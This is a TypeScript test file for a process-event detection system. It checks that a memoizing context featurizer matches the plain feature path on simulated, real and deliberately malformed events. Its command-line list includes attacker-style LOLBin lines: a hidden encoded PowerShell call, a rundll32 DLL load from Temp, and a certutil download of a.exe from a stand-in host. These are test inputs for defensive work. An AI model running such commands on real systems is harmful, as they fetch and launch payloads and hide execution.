// A new command line in a familiar context reuses the context families' values and the view's path
// and name lookups (context-featurize.ts): every row must be bit-for-bit the one featureSet.featurize
// writes, and the view's fields the ones eventView gives — on simulated and real events whose
// contexts recur with ever new command lines, and on hostile contexts (odd value types, lone
// surrogates, placeholders, strings that hash alike, SIDs against user names).

import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { HAS_SHARED_DATA, sharedPath } from '../../test/shared-data.js';
import { buildFeatureSet, FULL_SPEC, readsCommandLine, type EventView, type FeatureSet } from '../features/index.js';
import { FEATURE_INPUT_COUNT, readFeatureInputs } from '../features/inputs.js';
import { eventView } from '../features/view.js';
import type { ProcessEvent } from '../normalize/process-event.js';
import { simulate } from '../simulate/index.js';
import { loadJsonl } from './data/labelled.js';
import { CONTEXT_FAMILIES, contextFeaturizer } from './context-featurize.js';
import { ContextMemo } from './context-memo.js';
import { variantHash } from './input-memo.js';

const VIEW_FIELDS = ['name', 'parentName', 'exe', 'exeDir', 'parentExe', 'parentDir', 'cmd', 'cmdNorm', 'originalName', 'userName', 'userDomain'] as const;

function viewFields(v: EventView): unknown[] {
  return VIEW_FIELDS.map((k) => v[k]);
}

/** Featurizes evs in order through a context featurizer (passes times) and counts rows or views that differ from the plain path. */
function compare(fs: FeatureSet, evs: readonly ProcessEvent[], passes = 2, capacity?: number): { rows: number; differ: number; hits: number } {
  const ctx = contextFeaturizer(fs, capacity);
  const width = fs.names.length;
  const a = new Float32Array(width + 3);
  const b = new Float32Array(width);
  const abits = new Uint32Array(a.buffer);
  const bbits = new Uint32Array(b.buffer);
  const inputs = new Array<unknown>(FEATURE_INPUT_COUNT);
  let differ = 0;
  let rows = 0;
  for (let pass = 0; pass < passes; pass++)
    for (const ev of evs) {
      const keyed = readFeatureInputs(ev, inputs) !== undefined;
      const va = ctx.featurize(ev, keyed ? inputs : undefined, a, 3);
      const vb = fs.featurize(ev, b, 0);
      rows++;
      let same = true;
      for (let i = 0; i < width; i++) if (abits[i + 3] !== bbits[i]) same = false;
      if (JSON.stringify(viewFields(va)) !== JSON.stringify(viewFields(vb))) same = false;
      if (va.parity.commandLine !== vb.parity.commandLine || va.parity.executable !== vb.parity.executable) same = false;
      if (!same) differ++;
    }
  return { rows, differ, hits: ctx.memo.hits };
}

type Loose = { process: Record<string, unknown> & { parent?: Record<string, unknown> }; user?: Record<string, unknown> };

const clone = (ev: ProcessEvent): Loose => JSON.parse(JSON.stringify(ev)) as Loose;

/** The context of `ctx` with the command line of `cmdOf`. */
function withCommandLine(ctx: ProcessEvent, cmd: unknown): ProcessEvent {
  const e = clone(ctx);
  e.process.command_line = cmd;
  return e as unknown as ProcessEvent;
}

const HOSTILE_CONTEXTS: Array<(e: Loose) => void> = [
  (e) => (e.process.name = 42),
  (e) => (e.process.name = '?'),
  (e) => (e.process.name = ''),
  (e) => (e.process.name = 'SVCHOST.EXE\ud800'),
  (e) => (e.process.executable = '-'),
  (e) => (e.process.executable = 'C:\\Users\\Ünïcode\\AppData\\x.exe'),
  (e) => (e.process.executable = ['C:\\a.exe']),
  (e) => (e.process.parent = { name: 'winword.exe', executable: 'C:\\Program Files\\Office\\WINWORD.EXE' }),
  (e) => (e.process.parent = { name: '-', executable: '?' }),
  (e) => delete e.process.parent,
  (e) => (e.process.pe = { original_file_name: 'PowerShell.EXE' }),
  (e) => (e.process.pe = { original_file_name: 7 }),
  (e) => (e.process.integrity_level = 'High'),
  (e) => (e.process.Ext = { token: { elevation: true, elevation_type: 'Full', integrity_level_name: 'system' } }),
  (e) => (e.process.code_signature = { exists: true, trusted: false, status: 'Valid' }),
  (e) => (e.user = { id: 'S-1-5-18', name: 'alice', domain: 'corp' }),
  (e) => (e.user = { id: 'S-1-5-21-9', name: 'bob' }),
  (e) => (e.user = { name: 'svc$', domain: 'NT AUTHORITY' }),
  (e) => (e.user = { name: 'LocalSystem' }),
  (e) => (e.user = { id: '', name: 'system' }),
  (e) => (e.user = { id: null, name: null }),
];

const COMMAND_LINES = [
  'cmd.exe /c whoami',
  'powershell -nop -w hidden -enc SQBFAFgA',
  'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
  'rundll32.exe C:\\Users\\bob\\AppData\\Local\\Temp\\x.dll,DllRegisterServer',
  'certutil -urlcache -split -f http://10.0.0.1/a.exe a.exe',
  '"C:\\Program Files\\App\\app.exe" --type=renderer \ud83d --field-trial-handle=0x1f4',
  'x'.repeat(5000),
  ' ',
];

async function simulated(): Promise<ProcessEvent[]> {
  const out: ProcessEvent[] = [];
  for await (const ev of simulate({ users: 4, days: 1, attacks: 2, seed: 11 })) out.push(ev);
  return out;
}

describe('context featurizer', () => {
  const fs = buildFeatureSet(FULL_SPEC);

  it('runs without the command line only families that read none', () => {
    const ids = fs.families.map((f) => f.id).filter((id) => CONTEXT_FAMILIES.has(id));
    expect(ids.sort()).toEqual(['lineage', 'masq', 'user']);
    // No feature of those families is one the scorer counts as reading the command line.
    for (const f of fs.families) if (CONTEXT_FAMILIES.has(f.id)) for (const n of f.names) expect(readsCommandLine(n)).toBe(false);
  });

  it('writes the plain rows for simulated contexts with ever new command lines', async () => {
    const evs = await simulated();
    const mixed: ProcessEvent[] = [];
    for (let i = 0; i < evs.length; i++) {
      mixed.push(evs[i]);
      // The context of an earlier event with this event's command line, and with a fresh one.
      const other = evs[(i * 7919) % evs.length];
      mixed.push(withCommandLine(other, evs[i].process?.command_line));
      mixed.push(withCommandLine(other, `${String(evs[i].process?.command_line)} /n${i}`));
    }
    const r = compare(fs, mixed);
    expect(r.differ).toBe(0);
    expect(r.hits).toBeGreaterThan(r.rows / 2);
  }, 60_000);

  it('writes the plain rows for hostile contexts, across a table drop', async () => {
    const evs = (await simulated()).slice(0, 400);
    const out: ProcessEvent[] = [];
    let k = 0;
    for (const ev of evs)
      for (const cmd of COMMAND_LINES) {
        const e = clone(ev);
        HOSTILE_CONTEXTS[k++ % HOSTILE_CONTEXTS.length](e);
        e.process.command_line = `${cmd} ${k % 5}`;
        out.push(e as unknown as ProcessEvent);
      }
    // Capacity 64: the table is dropped many times within a pass.
    const r = compare(fs, out, 2, 64);
    expect(r.differ).toBe(0);
    expect(r.hits).toBeGreaterThan(0);
    const big = compare(fs, out, 2);
    expect(big.differ).toBe(0);
    expect(big.hits).toBeGreaterThan(out.length);
  }, 60_000);

  it('keeps apart contexts that hash alike', () => {
    // variantHash reads each string's length and its first, middle and last characters.
    const names = ['aXbYc.exe', 'aQbZc.exe', 'aabbc.exe', 'a_b_c.exe'];
    const evs = names.map((n, i) => ({ process: { name: n, executable: `C:\\T\\${n}`, command_line: `x ${i}`, parent: { name: 'explorer.exe' } } }) as unknown as ProcessEvent);
    const inputs = evs.map((ev) => {
      const v = new Array<unknown>(FEATURE_INPUT_COUNT);
      readFeatureInputs(ev, v);
      return v;
    });
    expect(new Set(inputs.map((v) => variantHash(v, 0, -1))).size).toBeLessThan(names.length);
    const memo = new ContextMemo<string>(16);
    for (let pass = 0; pass < 3; pass++)
      inputs.forEach((v, i) => {
        const got = memo.lookup(v);
        if (pass === 0) {
          expect(got).toBeUndefined();
          memo.store(v, names[i]);
        } else expect(got).toBe(names[i]);
      });
    const r = compare(fs, [...evs, ...evs.map((e) => withCommandLine(e, 'y'))]);
    expect(r.differ).toBe(0);
  });

  it('never hits on NaN and tells 0 from other numbers', () => {
    const memo = new ContextMemo<number>(8);
    const v = (x: unknown): unknown[] => ['a.exe', x, ...new Array<unknown>(FEATURE_INPUT_COUNT - 2).fill(undefined)];
    memo.lookup(v(NaN));
    memo.store(v(NaN), 1);
    expect(memo.lookup(v(NaN))).toBeUndefined();
    memo.lookup(v(0));
    memo.store(v(0), 2);
    expect(memo.lookup(v(-0))).toBe(2);
    expect(memo.lookup(v(0.5))).toBeUndefined();
    expect(memo.lookup(v('0'))).toBeUndefined();
  });

  it('builds the view eventView builds (explanations read it)', () => {
    const ev = { process: { name: 'Cmd.EXE', executable: 'C:\\Windows\\System32\\CMD.exe', command_line: 'cmd /c echo 1', pe: { original_file_name: 'Cmd.Exe' }, parent: { executable: 'C:\\Windows\\explorer.exe' } }, user: { name: 'Alice', domain: 'CORP' } } as unknown as ProcessEvent;
    const ctx = contextFeaturizer(fs);
    const row = new Float32Array(fs.names.length);
    const inputs = new Array<unknown>(FEATURE_INPUT_COUNT);
    readFeatureInputs(ev, inputs);
    ctx.featurize(ev, inputs, row, 0);
    const again = withCommandLine(ev, 'cmd /c echo 2');
    readFeatureInputs(again, inputs);
    const v = ctx.featurize(again, inputs, row, 0);
    expect(ctx.memo.hits).toBe(1);
    expect(viewFields(v)).toEqual(viewFields(eventView(again)));
    expect(viewFields(v)).toEqual(['cmd.exe', 'explorer.exe', 'c:\\windows\\system32\\cmd.exe', 'c:\\windows\\system32', 'c:\\windows\\explorer.exe', 'c:\\windows', 'cmd /c echo 2', 'cmd /c echo 2', 'cmd.exe', 'alice', 'corp']);
  });
});

describe.skipIf(!HAS_SHARED_DATA)('context featurizer on real events', () => {
  it('writes the plain rows for the labelled events with other events\' command lines', () => {
    const fs = buildFeatureSet(FULL_SPEC);
    const dir = sharedPath('train');
    const evs: ProcessEvent[] = [];
    for (const f of readdirSync(dir).filter((x) => x.endsWith('.jsonl')).sort()) for (const ev of loadJsonl(join(dir, f)).all) evs.push(ev);
    const mixed: ProcessEvent[] = [];
    const step = Math.max(1, Math.floor(evs.length / 6000));
    for (let i = 0; i < evs.length; i += step) {
      mixed.push(evs[i]);
      mixed.push(withCommandLine(evs[(i * 31) % evs.length], evs[i].process?.command_line));
      mixed.push(withCommandLine(evs[i], `${String(evs[(i * 17) % evs.length].process?.command_line)} ${i}`));
    }
    const r = compare(fs, mixed, 1);
    expect(r.differ).toBe(0);
    expect(r.hits).toBeGreaterThan(0);
  }, 60_000);
});
